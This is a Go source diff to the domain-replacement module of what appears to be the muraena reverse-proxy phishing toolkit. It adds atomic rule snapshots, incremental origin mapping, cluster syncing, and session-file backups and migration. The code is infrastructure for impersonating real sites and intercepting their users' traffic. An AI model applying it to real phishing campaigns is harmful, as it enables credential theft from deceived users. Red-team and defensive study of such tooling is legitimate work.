@@ -2,15 +2,19 @@ package proxy
 
 import (
 	"encoding/json"
+	"errors"
 	"fmt"
 	"io/ioutil"
-	"regexp"
+	"os"
+	"path/filepath"
 	"sort"
 	"strings"
 	"sync"
+	"sync/atomic"
 
 	"github.com/evilsocket/islazy/tui"
 
+	"github.com/muraenateam/muraena/core"
 	"github.com/muraenateam/muraena/log"
 	"github.com/muraenateam/muraena/session"
 )
@@ -18,8 +22,13 @@ import (
 const CustomWildcardSeparator = "---"
 const WildcardLabel = "wld"
 
+// compactionInterval is the number of origins added incrementally between two full rebuilds of the replacements
+const compactionInterval = 64
+
 // Replacer structure used to populate the transformation rules
 type Replacer struct {
+	// Version is the version of the session.json schema the rules were saved with
+	Version                       int
 	Phishing                      string
 	Target                        string
 	ExternalOrigin                []string
@@ -35,13 +44,35 @@ type Replacer struct {
 	LastForwardReplacements       []string `json:"-"`
 	LastBackwardReplacements      []string `json:"-"`
 	WildcardDomain                string   `json:"-"`
-
-	mu sync.RWMutex
+	Base64                        Base64   `json:"-"`
+
+	// mu serializes the changes of the rules, the requests read the snapshot without taking it
+	mu sync.Mutex
+	// snapshot is the immutable view of the rules read by the requests, published after every change
+	snapshot   atomic.Pointer[replacerSnapshot]
+	generation uint64
+	// domainsMapped is set by the first DomainMapping, mapped and wildcards are the numbers of origins and
+	// wildcards mapped so far. appended is the number of origins added incrementally since the last full rebuild.
+	domainsMapped bool
+	mapped        int
+	wildcards     int
+	appended      int
+	// stateDir is the directory of session.json, the working directory if empty
+	stateDir string
+	// shared is the origin list of the cluster, nil if not clustered
+	shared *sharedOrigins
+	// observe is notified of each replacement applied, i.e. in a dry run
+	observe func(forward bool, old, new string)
 }
 
 // GetSessionFileName returns the session file name
-// It generates the value from the Target domain, adding session.json at the end
+// It generates the value from the Phishing and Target domains, adding session.json at the end, in the state directory
 func (r *Replacer) GetSessionFileName() string {
+	return filepath.Join(r.stateDir, fmt.Sprintf("%s_%s.session.json", r.Phishing, r.Target))
+}
+
+// legacySessionFileName returns the session file name of the previous releases, in the working directory
+func (r *Replacer) legacySessionFileName() string {
 	return fmt.Sprintf("%s.session.json", r.Target)
 }
 
@@ -49,9 +80,13 @@ func (r *Replacer) GetSessionFileName() string {
 // If session.json is found, it loads the data from it.
 // Otherwise, it creates a new Replacer struct.
 func (r *Replacer) Init(s session.Session) error {
+	if r.Phishing == "" {
+		r.Phishing = s.Config.Proxy.Phishing
+	}
 	if r.Target == "" {
 		r.Target = s.Config.Proxy.Target
 	}
+	r.stateDir = s.StateDirectory()
 
 	err := r.Load()
 	if err != nil {
@@ -59,35 +94,76 @@ func (r *Replacer) Init(s session.Session) error {
 		log.Debug("Creating a new replacer")
 	}
 
+	if s.Config.Cluster.Enabled {
+		r.shared = newSharedOrigins(&s)
+	}
+
+	if err = r.configure(NewReplacerConfig(&s)); err != nil {
+		return err
+	}
+
+	// Save the replacer
+	err = r.Save()
+	if err != nil {
+		return fmt.Errorf("error saving replacer: %s", err)
+	}
+
+	return nil
+}
+
+// ReplacerConfig is the part of the configuration the transformation rules are built from,
+// so that they can be built and tested without a whole session
+type ReplacerConfig struct {
+	Phishing             string
+	Target               string
+	ExternalOriginPrefix string
+	ExternalOrigins      []string
+	OriginsMapping       map[string]string
+	SubdomainMap         [][]string
+	CustomContent        [][]string
+	Base64               Base64
+}
+
+// NewReplacerConfig returns the ReplacerConfig of the session
+func NewReplacerConfig(s *session.Session) ReplacerConfig {
+	return ReplacerConfig{
+		Phishing:             s.Config.Proxy.Phishing,
+		Target:               s.Config.Proxy.Target,
+		ExternalOriginPrefix: s.Config.Origins.ExternalOriginPrefix,
+		ExternalOrigins:      s.Config.Origins.ExternalOrigins,
+		OriginsMapping:       s.Config.Origins.OriginsMapping,
+		SubdomainMap:         s.Config.Origins.SubdomainMap,
+		CustomContent:        s.Config.Transform.Response.CustomContent,
+		Base64:               Base64{s.Config.Transform.Base64.Enabled, s.Config.Transform.Base64.Padding},
+	}
+}
+
+// configure applies the configuration and makes the replacements, on top of the data loaded from session.json, if any
+func (r *Replacer) configure(c ReplacerConfig) error {
 	if r.Phishing == "" {
-		r.Phishing = s.Config.Proxy.Phishing
+		r.Phishing = c.Phishing
 	}
 
 	if r.Target == "" {
-		r.Target = s.Config.Proxy.Target
+		r.Target = c.Target
 	}
 
 	if r.ExternalOriginPrefix == "" {
-		r.ExternalOriginPrefix = s.Config.Origins.ExternalOriginPrefix
+		r.ExternalOriginPrefix = c.ExternalOriginPrefix
 	}
 
-	r.SubdomainMap = s.Config.Origins.SubdomainMap
-	r.SetExternalOrigins(s.Config.Origins.ExternalOrigins)
-	r.SetOrigins(s.Config.Origins.OriginsMapping)
+	r.Base64 = c.Base64
+
+	r.SubdomainMap = c.SubdomainMap
+	r.SetExternalOrigins(c.ExternalOrigins)
+	r.SetOrigins(c.OriginsMapping)
 
-	if err = r.DomainMapping(); err != nil {
+	if err := r.DomainMapping(); err != nil {
 		return err
 	}
 
-	r.SetCustomResponseTransformations(s.Config.Transform.Response.CustomContent)
+	r.SetCustomResponseTransformations(c.CustomContent)
 	r.MakeReplacements()
-
-	// Save the replacer
-	err = r.Save()
-	if err != nil {
-		return fmt.Errorf("error saving replacer: %s", err)
-	}
-
 	return nil
 }
 
@@ -161,20 +237,23 @@ func (r *Replacer) SetCustomResponseTransformations(newTransformations [][]strin
 // GetExternalOrigins returns the ExternalOrigins used in the transformation rules.
 // It returns a copy of the internal slice.
 func (r *Replacer) GetExternalOrigins() []string {
-	r.mu.Lock()
-	defer r.mu.Unlock()
+	origins := r.current().externalOrigins
 
 	// Make a copy of the ExternalOrigins and return it
-	ret := make([]string, len(r.ExternalOrigin))
-	copy(ret, r.ExternalOrigin)
+	ret := make([]string, len(origins))
+	copy(ret, origins)
 
 	return ret
 }
 
 // SetExternalOrigins sets the ExternalOrigins used in the transformation rules.
+// Once the origins are mapped, the rules of the new origins are appended to the replacements,
+// instead of rebuilding them all, and every compactionInterval additions the replacements are rebuilt.
 func (r *Replacer) SetExternalOrigins(origins []string) {
 	r.mu.Lock()
 
+	var added []string
+
 	if r.ExternalOrigin == nil {
 		r.ExternalOrigin = make([]string, 0)
 	}
@@ -190,29 +269,112 @@ func (r *Replacer) SetExternalOrigins(origins []string) {
 		if !contains(r.ExternalOrigin, v) {
 			log.Info("[*] New origin %v", tui.Green(v))
 			r.ExternalOrigin = append(r.ExternalOrigin, v)
+			added = append(added, v)
 		}
 	}
 
 	r.ExternalOrigin = ArmorDomain(r.ExternalOrigin)
 
+	if len(added) == 0 {
+		r.publish()
+		r.mu.Unlock()
+		return
+	}
+
+	// Keep the order of the cluster, so that the origins are mapped to the same subdomains on all the nodes
+	if r.shared != nil {
+		if shared, err := r.shared.sync(r.ExternalOrigin); err != nil {
+			log.Warning("Error synchronizing the origins with the cluster: %s", err)
+		} else {
+			r.ExternalOrigin = shared
+		}
+	}
+
+	// The origins are published together with their mapping and replacements
+	switch {
+	case r.incremental(added):
+		r.appendOrigins(added)
+	case r.domainsMapped:
+		r.mapDomains()
+		r.makeReplacements()
+	default:
+		r.makeReplacements()
+	}
+
+	r.publish()
 	r.mu.Unlock()
-	r.MakeReplacements()
+}
+
+// incremental checks if the rules of the added origins can be appended to the replacements, with the lock held.
+// The wildcards, the origins already mapped and the ones reordered by the cluster require a full rebuild,
+// as well as the first mapping and the compaction.
+func (r *Replacer) incremental(added []string) bool {
+	if !r.domainsMapped || r.shared != nil || r.appended+len(added) > compactionInterval {
+		return false
+	}
 
+	for _, domain := range added {
+		if isWildcard(domain) {
+			return false
+		}
+		if _, ok := r.Origins[domain]; ok {
+			return false
+		}
+	}
+
+	return true
+}
+
+// appendOrigins maps the added origins and appends their rules to the replacements, with the lock held.
+// The origins are mapped as DomainMapping does, so that the next full rebuild maps them to the same subdomains.
+func (r *Replacer) appendOrigins(added []string) {
+	for _, domain := range added {
+		if !r.mappable(domain) {
+			continue
+		}
+
+		r.mapped++
+		r.appended++
+		subdomain := fmt.Sprintf("%s%d", r.ExternalOriginPrefix, r.mapped)
+		if r.Origins == nil {
+			r.Origins = make(map[string]string)
+		}
+		r.Origins[domain] = subdomain
+
+		phishing := fmt.Sprintf("%s.%s", subdomain, r.Phishing)
+		r.ForwardReplacements = append(r.ForwardReplacements, phishing, domain)
+
+		backward := []string{domain, phishing}
+		if unicode := core.DomainToUnicode(domain); unicode != domain {
+			backward = append(backward, unicode, phishing)
+		}
+		r.BackwardReplacements = append(r.BackwardReplacements, backward...)
+		r.LastBackwardReplacements = append(r.LastBackwardReplacements, backward...)
+
+		log.Verbose("[Incremental | replacements #%d]: %s < %s", r.mapped, tui.Green(domain), tui.Yellow(phishing))
+	}
+}
+
+// mappable checks if the origin is mapped to a subdomain of the phishing domain:
+// the 1-level subdomains of the target are not, as they keep their name.
+func (r *Replacer) mappable(domain string) bool {
+	if !IsSubdomain(r.Target, domain) {
+		return true
+	}
+
+	trim := strings.TrimSuffix(domain, r.Target)
+	return strings.Count(trim, ".") >= 2
 }
 
 // GetOrigins returns the Origins mapping used in the transformation rules.
 // It returns a copy of the internal map.
 func (r *Replacer) GetOrigins() map[string]string {
-	r.mu.Lock()
-
 	// Make a copy of the Origins and return it
 	ret := make(map[string]string)
-	for k, v := range r.Origins {
+	for k, v := range r.current().origins {
 		ret[k] = v
 	}
 
-	r.mu.Unlock()
-
 	return ret
 }
 
@@ -223,13 +385,13 @@ func (r *Replacer) SetOrigins(newOrigins map[string]string) {
 		return
 	}
 
+	r.mu.Lock()
+	defer r.mu.Unlock()
+
 	if r.Origins == nil {
 		r.Origins = make(map[string]string)
 	}
 
-	r.mu.Lock()
-	defer r.mu.Unlock()
-
 	// merge newOrigins to r.newOrigins and avoid duplicate
 
 	// count the number of new origins
@@ -242,6 +404,7 @@ func (r *Replacer) SetOrigins(newOrigins map[string]string) {
 		}
 		r.Origins[k] = v
 	}
+	r.publish()
 }
 
 // SetForwardReplacements sets the ForwardReplacements used in the transformation rules.
@@ -250,6 +413,7 @@ func (r *Replacer) SetForwardReplacements(replacements []string) {
 	defer r.mu.Unlock()
 
 	r.ForwardReplacements = replacements
+	r.publish()
 }
 
 // SetForwardWildcardReplacements sets the ForwardWildcardReplacements used in the transformation rules.
@@ -258,6 +422,7 @@ func (r *Replacer) SetForwardWildcardReplacements(replacements []string) {
 	defer r.mu.Unlock()
 
 	r.ForwardWildcardReplacements = replacements
+	r.publish()
 }
 
 // SetBackwardReplacements sets the BackwardReplacements used in the transformation rules.
@@ -266,6 +431,7 @@ func (r *Replacer) SetBackwardReplacements(replacements []string) {
 	defer r.mu.Unlock()
 
 	r.BackwardReplacements = replacements
+	r.publish()
 }
 
 // SetBackwardWildcardReplacements sets the BackwardWildcardReplacements used in the transformation rules.
@@ -274,6 +440,7 @@ func (r *Replacer) SetBackwardWildcardReplacements(replacements []string) {
 	defer r.mu.Unlock()
 
 	r.BackwardWildcardReplacements = replacements
+	r.publish()
 }
 
 // SetLastForwardReplacements sets the LastForwardReplacements used in the transformation rules.
@@ -282,6 +449,7 @@ func (r *Replacer) SetLastForwardReplacements(replacements []string) {
 	defer r.mu.Unlock()
 
 	r.LastForwardReplacements = replacements
+	r.publish()
 }
 
 // SetLastBackwardReplacements sets the LastBackwardReplacements used in the transformation rules.
@@ -290,21 +458,18 @@ func (r *Replacer) SetLastBackwardReplacements(replacements []string) {
 	defer r.mu.Unlock()
 
 	r.LastBackwardReplacements = replacements
+	r.publish()
 }
 
 // GetWildcardMapping returns the WildcardMapping used in the transformation rules.
 // It returns a copy of the internal map.
 func (r *Replacer) GetWildcardMapping() map[string]string {
-	r.mu.Lock()
-
 	// Make a copy of the WildcardMapping and return it
 	ret := make(map[string]string)
-	for k, v := range r.WildcardMapping {
+	for k, v := range r.current().wildcards {
 		ret[k] = v
 	}
 
-	r.mu.Unlock()
-
 	return ret
 }
 
@@ -313,7 +478,11 @@ func (r *Replacer) SetWildcardMapping(domain, mapping string) {
 	r.mu.Lock()
 	defer r.mu.Unlock()
 
+	if r.WildcardMapping == nil {
+		r.WildcardMapping = make(map[string]string)
+	}
 	r.WildcardMapping[domain] = mapping
+	r.publish()
 }
 
 // SetWildcardDomain sets the WildcardDomain used in the transformation rules.
@@ -334,41 +503,168 @@ func contains(slice []string, s string) bool {
 	return false
 }
 
+// sessionBackups is the number of previous versions of session.json kept, as .1 being the most recent
+const sessionBackups = 3
+
 // Save saves the Replacer struct to a file as JSON.
 func (r *Replacer) Save() error {
 	r.mu.Lock()
 	defer r.mu.Unlock()
 
+	if r.stateDir != "" {
+		if err := os.MkdirAll(r.stateDir, 0700); err != nil {
+			return err
+		}
+	}
+
 	return saveToJSON(r.GetSessionFileName(), r)
 }
 
 // saveToJSON saves the Replacer struct to a file as JSON.
+// The file is replaced atomically, after rotating the previous versions as backups.
 func saveToJSON(filename string, replacer *Replacer) error {
+	replacer.Version = sessionVersion
 	data, err := json.MarshalIndent(replacer, "", "\t")
 	if err != nil {
 		return err
 	}
-	return ioutil.WriteFile(filename, data, 0644)
+
+	if err := rotateBackups(filename); err != nil {
+		log.Warning("Error rotating the backups of %s: %s", filename, err)
+	}
+
+	return core.WriteFileAtomic(filename, data, 0644)
+}
+
+// rotateBackups shifts the backups of the file, the current version becoming the most recent backup
+func rotateBackups(filename string) error {
+	for i := sessionBackups - 1; i >= 0; i-- {
+		from := backupName(filename, i)
+		if _, err := os.Stat(from); os.IsNotExist(err) {
+			continue
+		}
+
+		// The current version is kept in place, until replaced by the new one
+		if i == 0 {
+			data, err := ioutil.ReadFile(from)
+			if err != nil {
+				return err
+			}
+			return core.WriteFileAtomic(backupName(filename, 1), data, 0644)
+		}
+
+		if err := os.Rename(from, backupName(filename, i+1)); err != nil {
+			return err
+		}
+	}
+
+	return nil
+}
+
+// backupName returns the name of the i-th backup of the file, the file itself for 0
+func backupName(filename string, i int) string {
+	if i == 0 {
+		return filename
+	}
+	return fmt.Sprintf("%s.%d", filename, i)
 }
 
 // Load loads the Replacer data from a JSON file.
+// A missing, corrupted or inconsistent file is replaced by the most recent valid backup.
+// The session of a previous release, named after the target in the working directory, is loaded if none is found.
 func (r *Replacer) Load() error {
-	rep, err := loadFromJSON(r.GetSessionFileName())
+	filename := r.GetSessionFileName()
+	rep, err := loadWithBackups(filename, r.Phishing, r.Target)
+	if os.IsNotExist(err) {
+		legacy := r.legacySessionFileName()
+		if rep, err = loadWithBackups(legacy, r.Phishing, r.Target); err == nil {
+			log.Info("Loaded the transformation rules from %s, they will be saved as %s", legacy, filename)
+		}
+	}
 	if err != nil {
 		return err
 	}
 
-	// update the current replacer pointer
-	*r = *rep
+	// update the current replacer with the persisted rules
+	r.mu.Lock()
+	defer r.mu.Unlock()
+
+	r.Version = rep.Version
+	r.Phishing = rep.Phishing
+	r.Target = rep.Target
+	r.ExternalOrigin = rep.ExternalOrigin
+	r.ExternalOriginPrefix = rep.ExternalOriginPrefix
+	r.Origins = rep.Origins
+	r.WildcardMapping = rep.WildcardMapping
+	r.SubdomainMap = rep.SubdomainMap
+	r.CustomResponseTransformations = rep.CustomResponseTransformations
+	r.publish()
 	return nil
 }
 
-// loadFromJSON loads the Replacer data from a JSON file.
+// loadWithBackups loads the rules of the domains from the file, or from the most recent valid backup.
+// It returns the error of the file if none is valid.
+func loadWithBackups(filename, phishing, target string) (*Replacer, error) {
+	var err error
+	for i := 0; i <= sessionBackups; i++ {
+		rep, e := loadFromJSON(backupName(filename, i))
+		if e == nil {
+			e = rep.validate(phishing, target)
+		}
+		if e == nil {
+			if i > 0 {
+				log.Warning("Restored the transformation rules from the backup %s: %s", backupName(filename, i), err)
+			}
+			return rep, nil
+		}
+
+		if i == 0 {
+			err = e
+		} else if !os.IsNotExist(e) {
+			log.Warning("Invalid backup %s: %s", backupName(filename, i), e)
+		}
+	}
+
+	return nil, err
+}
+
+// validate checks that the rules loaded from a file are the ones of the phishing and target domains
+func (r *Replacer) validate(phishing, target string) error {
+	if r.Target == "" || r.Phishing == "" {
+		return errors.New("missing phishing or target domain")
+	}
+
+	if phishing != "" && r.Phishing != phishing {
+		return fmt.Errorf("rules of %s instead of %s", r.Phishing, phishing)
+	}
+
+	if target != "" && r.Target != target {
+		return fmt.Errorf("rules of %s instead of %s", r.Target, target)
+	}
+
+	return r.Integrity()
+}
+
+// loadFromJSON loads the Replacer data from a JSON file, migrated to the current version of the schema.
 func loadFromJSON(filename string) (*Replacer, error) {
 	data, err := ioutil.ReadFile(filename)
 	if err != nil {
 		return nil, err
 	}
+
+	return decodeSession(data, filename)
+}
+
+// decodeSession decodes the Replacer data of a session.json, migrated to the current version of the schema
+func decodeSession(data []byte, source string) (*Replacer, error) {
+	data, version, err := migrateSession(data, sessionMigrations)
+	if err != nil {
+		return nil, err
+	}
+	if version != sessionVersion {
+		log.Info("Migrated %s from version %d to %d", source, version, sessionVersion)
+	}
+
 	var replacer Replacer
 	if err := json.Unmarshal(data, &replacer); err != nil {
 		return nil, err
@@ -385,60 +681,227 @@ type replacement struct {
 // GetBackwardReplacements returns the BackwardReplacements used in the transformation rules.
 // It returns a copy of the internal slice sorted by length in descending order.
 func (r *Replacer) GetBackwardReplacements() []string {
-	r.mu.Lock()
-	defer r.mu.Unlock()
-
-	return sortReplacementsByLength(r.BackwardReplacements, false)
+	return sortReplacementsByLength(r.current().backward, false)
 }
 
 // GetForwardReplacements returns the ForwardReplacements used in the transformation rules.
 // It returns a copy of the internal slice sorted by length in descending order.
 func (r *Replacer) GetForwardReplacements() []string {
-	r.mu.Lock()
-	defer r.mu.Unlock()
-
+	s := r.current()
 	return append(
-		sortReplacementsByLength(r.ForwardReplacements, true),
-		sortReplacementsByLength(r.ForwardWildcardReplacements, true)...,
+		sortReplacementsByLength(s.forward, true),
+		sortReplacementsByLength(s.forwardWildcard, true)...,
 	)
 }
 
 // GetLastForwardReplacements returns the LastForwardReplacements used in the transformation rules.
 // It returns a copy of the internal slice sorted by length in descending order.
 func (r *Replacer) GetLastForwardReplacements() []string {
-	r.mu.Lock()
-	defer r.mu.Unlock()
-
-	return sortReplacementsByLength(r.LastForwardReplacements, true)
+	return sortReplacementsByLength(r.current().lastForward, true)
 }
 
 // GetLastBackwardReplacements returns the LastBackwardReplacements used in the transformation rules.
 // It returns a copy of the internal slice sorted by length in descending order.
 func (r *Replacer) GetLastBackwardReplacements() []string {
+	s := r.current()
+	return append(
+		sortReplacementsByLength(s.lastBackward, false),
+		sortReplacementsByLength(s.backwardWildcard, false)...,
+	)
+}
+
+// matcherKind identifies a set of replacements and how they are matched
+type matcherKind struct {
+	forward         bool
+	last            bool
+	caseInsensitive bool
+}
+
+// index returns the position of the matcher of the kind in a snapshot
+func (k matcherKind) index() int {
+	i := 0
+	if k.forward {
+		i |= 1
+	}
+	if k.last {
+		i |= 2
+	}
+	if k.caseInsensitive {
+		i |= 4
+	}
+	return i
+}
+
+// replacerSnapshot is an immutable view of the transformation rules, swapped atomically whenever they change,
+// so that the requests read the rules and share the compiled matchers without taking any lock.
+type replacerSnapshot struct {
+	generation      uint64
+	origins         map[string]string
+	wildcards       map[string]string
+	externalOrigins []string
+
+	forward          []string
+	forwardWildcard  []string
+	backward         []string
+	backwardWildcard []string
+	lastForward      []string
+	lastBackward     []string
+
+	// matchers are compiled on first use, indexed by matcherKind.index
+	matchers [8]lazyMatcher
+}
+
+type lazyMatcher struct {
+	once sync.Once
+	m    atomic.Pointer[matcher]
+}
+
+// matcher returns the matcher for the given set of replacements, compiling it if needed.
+func (s *replacerSnapshot) matcher(kind matcherKind) *matcher {
+	lm := &s.matchers[kind.index()]
+	lm.once.Do(func() {
+		var replacements []string
+		switch {
+		case kind.forward && kind.last:
+			replacements = sortReplacementsByLength(s.lastForward, true)
+		case kind.forward:
+			replacements = append(sortReplacementsByLength(s.forward, true), sortReplacementsByLength(s.forwardWildcard, true)...)
+		case kind.last:
+			replacements = append(sortReplacementsByLength(s.lastBackward, false), sortReplacementsByLength(s.backwardWildcard, false)...)
+		default:
+			replacements = sortReplacementsByLength(s.backward, false)
+		}
+
+		lm.m.Store(newMatcher(replacements, kind.caseInsensitive))
+	})
+
+	return lm.m.Load()
+}
+
+// current returns the snapshot of the rules, as last published by the changes
+func (r *Replacer) current() *replacerSnapshot {
+	if s := r.snapshot.Load(); s != nil {
+		return s
+	}
+
+	// The rules set directly, without any change published yet, are published on first use
 	r.mu.Lock()
 	defer r.mu.Unlock()
 
-	return append(
-		sortReplacementsByLength(r.LastBackwardReplacements, false),
-		sortReplacementsByLength(r.BackwardWildcardReplacements, false)...,
-	)
+	if s := r.snapshot.Load(); s == nil {
+		r.publish()
+	}
+	return r.snapshot.Load()
+}
+
+// publish builds the snapshot of the rules and swaps it in after a change, the caller must hold the lock.
+// The snapshot is built by the writers, the requests only load it.
+func (r *Replacer) publish() {
+	r.generation++
+	s := &replacerSnapshot{
+		generation:       r.generation,
+		origins:          make(map[string]string, len(r.Origins)),
+		wildcards:        make(map[string]string, len(r.WildcardMapping)),
+		externalOrigins:  append([]string(nil), r.ExternalOrigin...),
+		forward:          append([]string(nil), r.ForwardReplacements...),
+		forwardWildcard:  append([]string(nil), r.ForwardWildcardReplacements...),
+		backward:         append([]string(nil), r.BackwardReplacements...),
+		backwardWildcard: append([]string(nil), r.BackwardWildcardReplacements...),
+		lastForward:      append([]string(nil), r.LastForwardReplacements...),
+		lastBackward:     append([]string(nil), r.LastBackwardReplacements...),
+	}
+	for k, v := range r.Origins {
+		s.origins[k] = v
+	}
+	for k, v := range r.WildcardMapping {
+		s.wildcards[k] = v
+	}
+
+	r.snapshot.Store(s)
 }
 
-// caseInsensitiveReplace replaces the old values with the new values in the input string.
-func caseInsensitiveReplace(input string, r []string) (string, error) {
-	replacements, err := convertToReplacements(r)
-	if err != nil {
-		return "", err
+// getMatcher returns the matcher for the given set of replacements, compiling it if needed.
+func (r *Replacer) getMatcher(kind matcherKind) *matcher {
+	return r.current().matcher(kind)
+}
+
+// Generation returns a counter incremented every time the replacements change.
+func (r *Replacer) Generation() uint64 {
+	return r.current().generation
+}
+
+// Stats returns the size of the transformation rules, as reported to the operator
+func (r *Replacer) Stats() map[string]interface{} {
+	s := r.current()
+
+	return map[string]interface{}{
+		"origins":              len(s.origins),
+		"externalOrigins":      len(s.externalOrigins),
+		"wildcards":            len(s.wildcards),
+		"forwardReplacements":  (len(s.forward) + len(s.forwardWildcard)) / 2,
+		"backwardReplacements": (len(s.backward) + len(s.backwardWildcard)) / 2,
+		"generation":           s.generation,
+	}
+}
+
+// Footprint estimates the memory used by the replacement tables and the compiled matchers, in bytes
+func (r *Replacer) Footprint() int {
+	s := r.current()
+
+	size := 0
+	for _, m := range []map[string]string{s.origins, s.wildcards} {
+		for k, v := range m {
+			size += len(k) + len(v)
+		}
+	}
+
+	for _, replacements := range [][]string{
+		s.externalOrigins,
+		s.forward, s.forwardWildcard,
+		s.backward, s.backwardWildcard,
+		s.lastForward, s.lastBackward,
+	} {
+		for _, v := range replacements {
+			size += len(v)
+		}
+	}
+
+	for i := range s.matchers {
+		if m := s.matchers[i].m.Load(); m != nil {
+			size += m.footprint()
+		}
+	}
+
+	return size
+}
+
+// Integrity verifies that the transformation rules are consistent
+func (r *Replacer) Integrity() error {
+	s := r.current()
+
+	for name, replacements := range map[string][]string{
+		"forward":           s.forward,
+		"forward wildcard":  s.forwardWildcard,
+		"backward":          s.backward,
+		"backward wildcard": s.backwardWildcard,
+		"last forward":      s.lastForward,
+		"last backward":     s.lastBackward,
+	} {
+		if len(replacements)%2 != 0 {
+			return fmt.Errorf("odd number of %s replacements", name)
+		}
 	}
 
-	for _, r := range replacements {
-		re, err := regexp.Compile(`(?i)` + regexp.QuoteMeta(r.OldVal))
-		if err != nil {
-			return "", err
+	// Two origins mapped to the same subdomain could not be told apart
+	subdomains := make(map[string]string)
+	for origin, subdomain := range s.origins {
+		if other, ok := subdomains[subdomain]; ok {
+			return fmt.Errorf("origins %s and %s are both mapped to %s", origin, other, subdomain)
 		}
-		input = re.ReplaceAllString(input, r.NewVal)
+		subdomains[subdomain] = origin
 	}
-	return input, nil
+
+	return nil
 }
 
 // convertToReplacements converts a slice of strings to a slice of replacements.